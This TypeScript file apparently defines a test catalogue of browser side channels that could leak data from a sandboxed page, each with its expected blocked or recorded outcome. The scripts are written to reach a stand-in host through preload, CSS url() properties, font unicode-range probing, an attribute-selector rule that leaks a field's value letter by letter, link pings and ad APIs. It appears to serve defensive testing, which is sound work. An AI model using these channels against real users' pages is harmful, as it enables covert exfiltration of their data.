/** What a browser requests ahead of time, for styles, or on the page's behalf. */
import { type EscapeClass, type Target } from './escape.ts';

const link =
  (rel: string, more: Readonly<Record<string, string>> = {}, address: (at: Target) => string = (at) => at.http) =>
  (at: Target): string =>
    `add('link', ${JSON.stringify({ rel, href: address(at), ...more })}, document.head); await wait(60)`;
const style =
  (name: string, value: (at: Target) => string) =>
  (at: Target): string =>
    `const d = add('div'); d.textContent = 'x'; d.style.setProperty('${name}', ${JSON.stringify(value(at))}); ` +
    'd.offsetWidth; await wait(60)';
const rule =
  (text: (at: Target) => string, use = 'x') =>
  (at: Target): string =>
    `const s = new CSSStyleSheet(); s.replaceSync(${JSON.stringify(text(at))}); document.adoptedStyleSheets = ` +
    `[...document.adoptedStyleSheets, s]; const d = add('div', { class: 'escape-rule' }); d.textContent = ` +
    `'${use}'; d.offsetWidth; await wait(100); document.adoptedStyleSheets = ` +
    'document.adoptedStyleSheets.filter((one) => one !== s)';

export const HINTS: EscapeClass = {
  name: 'hints, styles and quiet channels',
  entries: [
    { id: 'preload', tries: 'preload', outcome: 'recorded', control: true, script: link('preload', { as: 'image' }) },
    { id: 'prefetch', tries: 'prefetch', outcome: 'recorded', control: true, script: link('prefetch') },
    {
      id: 'modulepreload',
      tries: 'modulepreload',
      outcome: 'recorded',
      control: true,
      script: link('modulepreload', {}, (at) => `${at.http}.js`),
    },
    {
      id: 'preconnect',
      tries: 'preconnect, with words in the name',
      outcome: 'silent',
      control: true,
      why: 'connections ahead of time are switched off',
      script: link('preconnect'),
    },
    {
      id: 'dns-prefetch',
      tries: 'the look-up of a name made of words',
      outcome: 'silent',
      why: "looking names up ahead of time is switched off, and the browser's resolver knows no name",
      script: link('dns-prefetch', {}, (at) => `//${at.needle}.escape.example`),
    },
    { id: 'prerender', tries: 'prerender', outcome: 'silent', why: 'switched off', script: link('prerender') },
    {
      id: 'speculation',
      tries: 'speculation rules',
      outcome: 'recorded',
      records: [['script-blocked', 'require-trusted-types-for: trusted-types-sink']],
      script: (at) =>
        `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = ` +
        `JSON.stringify({ prefetch: [{ source: 'list', urls: ['${at.https}'] }], prerender: [{ source: 'list', ` +
        `urls: ['${at.https}'] }] }); document.head.append(leave(s)); await wait(60)`,
    },
    {
      id: 'css-background',
      tries: 'a background',
      outcome: 'recorded',
      control: true,
      script: style('background-image', (at) => `url(${at.http})`),
    },
    {
      id: 'css-cursor',
      tries: 'a pointer',
      outcome: 'recorded',
      control: true,
      script: style('cursor', (at) => `url(${at.http}), auto`),
    },
    {
      id: 'css-list',
      tries: 'a bullet',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const d = add('ul'); const i = document.createElement('li'); i.style.listStyleImage = ` +
        `'url(${at.http})'; d.append(i); d.offsetWidth; await wait(60)`,
    },
    {
      id: 'css-border',
      tries: 'a border',
      outcome: 'recorded',
      control: true,
      script: style('border-image', (at) => `url(${at.http}) 1`),
    },
    { id: 'css-mask', tries: 'a mask', outcome: 'recorded', script: style('mask-image', (at) => `url(${at.http})`) },
    {
      id: 'css-filter',
      tries: 'a filter',
      outcome: 'silent',
      why: 'the browser takes no filter from another origin',
      script: style('filter', (at) => `url(${at.http}#x)`),
    },
    {
      id: 'css-clip',
      tries: 'a clip path',
      outcome: 'recorded',
      script: style('clip-path', (at) => `url(${at.http}#x)`),
    },
    {
      id: 'css-shape',
      tries: 'a shape',
      outcome: 'recorded',
      script: (at) =>
        `const d = add('div'); d.style.cssFloat = 'left'; d.style.shapeOutside = 'url(${at.http})'; ` +
        'd.offsetWidth; await wait(60)',
    },
    {
      id: 'css-image-set',
      tries: 'a set of images',
      outcome: 'recorded',
      control: true,
      script: style('background-image', (at) => `image-set('${at.http}' 1x)`),
    },
    {
      id: 'css-variable',
      tries: 'an image by way of a variable',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const d = add('div'); d.style.setProperty('--x', 'url(${at.http})'); d.style.backgroundImage = ` +
        `'var(--x)'; d.offsetWidth; await wait(60)`,
    },
    {
      id: 'css-attribute',
      tries: 'a value sent letter by letter, by rules on attributes',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const f = add('input', { value: 's' }); const s = new CSSStyleSheet(); s.replaceSync('input[value^=s] { ` +
        `background: url(${at.http}) }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, s]; ` +
        'f.offsetWidth; await wait(100); document.adoptedStyleSheets = document.adoptedStyleSheets.filter((one) ' +
        '=> one !== s)',
    },
    {
      id: 'css-content',
      tries: 'content of a style',
      outcome: 'recorded',
      control: true,
      script: rule((at) => `.escape-rule::before { content: url(${at.http}) }`),
    },
    {
      id: 'css-font',
      tries: 'a font, by a rule',
      outcome: 'recorded',
      control: true,
      script: rule(
        (at) => `@font-face { font-family: escape; src: url(${at.http}.woff2) } .escape-rule { font-family: escape }`,
      ),
    },
    {
      id: 'css-font-range',
      tries: 'a font that is asked for when a letter is there',
      outcome: 'recorded',
      control: true,
      script: rule(
        (at) =>
          `@font-face { font-family: range; src: url(${at.http}.woff2); unicode-range: U+0053 } .escape-rule { ` +
          'font-family: range }',
        'S',
      ),
    },
    {
      id: 'font-face',
      tries: 'a font, by script',
      outcome: 'recorded',
      control: true,
      script: (at) => `await new FontFace('escape2', 'url(${at.http}.woff2)').load(); return 'out: loaded'`,
    },
    {
      id: 'css-import',
      tries: 'a style sheet that imports another',
      outcome: 'silent',
      script: rule((at) => `@import url(${at.http}.css);`),
      why: 'a sheet that a script makes cannot import',
    },
    {
      id: 'style-element',
      tries: 'a style element',
      outcome: 'recorded',
      control: true,
      records: [['request-blocked', 'style-src-elem: inline']],
      script: (at) =>
        `const s = document.createElement('style'); s.textContent = '@import url(${at.http}.css); body { ` +
        `background: url(${at.http}) }'; document.head.append(leave(s)); await wait(100)`,
    },
    {
      id: 'style-attribute',
      tries: 'a style attribute in markup',
      outcome: 'recorded',
      control: true,
      records: [['request-blocked', 'style-src-attr: inline']],
      script: (at) => `add('div', { style: 'background: url(${at.http})' }).offsetWidth; await wait(60)`,
    },
    {
      id: 'topics',
      tries: "the browser's topics",
      outcome: 'silent',
      why: 'switched off, and answered with NotSupportedError',
      script: () =>
        `if (!isThere(document, 'browsingTopics')) return 'absent'; return 'out: ' + JSON.stringify(await ` +
        'document.browsingTopics())',
    },
    {
      id: 'shared-storage',
      tries: 'storage shared between sites',
      outcome: 'absent',
      script: (at) =>
        `if (!isThere(window, 'sharedStorage')) return 'absent'; await sharedStorage.set('x', '${at.needle}'); ` +
        `return 'out: stored'`,
    },
    {
      id: 'auction',
      tries: 'an advertisement auction',
      outcome: 'silent',
      why: 'the call is answered, and no host is asked: neither the host nor the forwarder hears of it',
      script: (at) =>
        `if (!isThere(navigator, 'runAdAuction')) return 'absent'; await navigator.joinAdInterestGroup({ owner: ` +
        `'${at.https}', name: 'x' }, 1000); return 'it says yes'`,
    },
    {
      id: 'private-token',
      tries: 'a private state token',
      outcome: 'silent',
      why: 'there is none, and none can be asked for',
      script: (at) =>
        `if (!isThere(Document.prototype, 'hasPrivateToken')) return 'absent'; return await ` +
        `document.hasPrivateToken('${at.https}') ? 'out: one' : 'none'`,
    },
    {
      id: 'ping',
      tries: 'the ping of a link',
      outcome: 'silent',
      control: true,
      why: 'pings are switched off',
      script: (at) => `add('a', { href: '#x', ping: '${at.http}' }).click(); await wait(60)`,
    },
    {
      id: 'language-model',
      tries: 'a model of the browser, which would be downloaded',
      outcome: 'silent',
      why: 'switched off by Permissions-Policy, which reports nothing for it',
      script: () =>
        `if (!isThere(window, 'LanguageModel')) return 'absent'; await LanguageModel.create(); return 'out: made'`,
    },
    {
      id: 'translator',
      tries: "the browser's translation",
      outcome: 'silent',
      why: 'switched off by Permissions-Policy, which reports nothing for it',
      script: () =>
        `if (!isThere(window, 'Translator')) return 'absent'; await Translator.create({ sourceLanguage: 'en', ` +
        `targetLanguage: 'fr' }); return 'out: made'`,
    },
    {
      id: 'related-apps',
      tries: 'which applications are installed',
      outcome: 'silent',
      why: 'the list is empty',
      script: () =>
        `if (!isThere(navigator, 'getInstalledRelatedApps')) return 'absent'; const all = await ` +
        `navigator.getInstalledRelatedApps(); return all.length > 0 ? 'out: some' : 'none'`,
    },
    {
      id: 'timer',
      tries: 'memory shared with a worker, as a clock for attacks on the processor',
      outcome: 'silent',
      script: () =>
        `try { new Worker('data:text/javascript,0') } catch { return 'refused: no worker' } await wait(100); ` +
        `return 'a worker was asked for'`,
      why: 'no worker can be made to run the clock',
    },
  ],
};
